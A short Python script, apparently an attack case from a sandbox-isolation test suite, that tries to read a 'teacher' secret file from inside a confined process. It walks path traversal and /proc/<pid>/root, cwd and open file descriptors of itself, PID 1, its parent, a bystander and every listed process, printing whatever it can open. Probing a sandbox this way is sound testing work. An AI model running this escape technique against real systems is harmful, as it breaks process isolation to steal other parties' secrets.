"""Reads a file of the teacher, by its path and by the root, folder and files of processes."""

import contextlib
import os
from pathlib import Path

from attack import TEACHER

secret = TEACHER["secret"]
pids = ["self", "1", str(os.getppid()), str(TEACHER["bystander"])]
with contextlib.suppress(OSError):
    pids += [name for name in os.listdir("/proc") if name.isdigit()]
places = [secret, f"/box/../..{secret}", f"/proc/self/root{secret}"]
for pid in pids:
    places += [f"/proc/{pid}/root{secret}", f"/proc/{pid}/cwd/{Path(secret).name}"]
    places += [f"/proc/{pid}/fd/{fd}" for fd in range(3, 30)]
for place in places:
    with contextlib.suppress(OSError):
        fd = os.open(place, os.O_RDONLY | os.O_NONBLOCK)
        print(os.read(fd, 1000))
        os.close(fd)
